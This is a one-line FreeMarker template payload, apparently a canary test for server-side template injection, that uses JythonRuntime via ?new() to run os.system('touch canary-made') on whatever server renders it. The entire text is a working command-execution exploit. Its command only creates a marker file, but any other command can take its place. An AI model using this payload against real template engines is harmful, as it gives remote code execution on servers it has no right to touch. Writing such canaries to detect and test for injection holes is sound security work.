<#assign python="freemarker.template.utility.JythonRuntime"?new()><@python>import os; os.system("touch canary-made")</@python>
